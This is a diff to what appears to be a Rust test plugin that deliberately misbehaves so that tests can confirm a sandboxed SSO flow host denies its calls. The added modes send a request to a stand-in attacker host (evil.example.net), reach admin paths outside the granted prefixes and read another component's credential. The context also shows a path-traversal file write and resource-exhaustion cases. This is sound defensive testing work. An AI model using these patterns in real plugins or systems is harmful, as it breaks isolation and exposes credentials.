@@ -10,6 +10,9 @@
 //! - `admin-token`: reads `AUTHENTIK_ADMIN_TOKEN`;
 //! - `escape-file`: writes `../<victim>/manifest.yaml`;
 //! - `foreign-http`: sends a request to another origin through `service-http`;
+//! - `idp-foreign`: sends a request to another origin through `idp-http`;
+//! - `idp-outside`: asks `idp-http` for `/admin/realms/master/users` (outside the granted prefixes);
+//! - `idp-credential`: asks for `<PREFIX>IDP_TOKEN`, its own key but the idp-http credential;
 //! - `recurse`: recurses without bound (stack exhaustion);
 //! - `huge-string`: returns a 256 MiB-ish summary, built in pieces past the memory limit;
 //! - `huge-answer`: returns a 16 MiB summary (within memory, beyond what the host accepts);
@@ -21,7 +24,7 @@
 //! Every denied call is returned as the run's error, so tests can read the host's message.
 
 use ssoctl_flow_sdk::sso::flow::authentik::{self, ApplicationSpec, Oauth2ProviderSpec};
-use ssoctl_flow_sdk::sso::flow::service_config;
+use ssoctl_flow_sdk::sso::flow::{idp_http, service_config};
 use ssoctl_flow_sdk::{FlowError, FlowInfo, Guest, Mode, Outcome, Service, Settings};
 
 struct Misbehave;
@@ -81,6 +84,24 @@ impl Guest for Misbehave {
                     capture: None,
                 };
                 service_config::service_http(&request)?;
+            }
+            "idp-foreign" | "idp-outside" => {
+                let path = if settings.get("misbehave") == Some("idp-outside") {
+                    "/admin/realms/master/users"
+                } else {
+                    "https://evil.example.net/admin/realms/pma/clients"
+                };
+                idp_http::send(&service_config::HttpRequest {
+                    method: "GET".into(),
+                    path: path.into(),
+                    body: None,
+                    secret: None,
+                    bearer: None,
+                    capture: None,
+                })?;
+            }
+            "idp-credential" => {
+                service_config::env_secret(&format!("{}IDP_TOKEN", service.env_prefix))?;
             }
             "escape-file" => {
                 service_config::write_file(&format!("../{victim}/manifest.yaml"), "pwned")?;
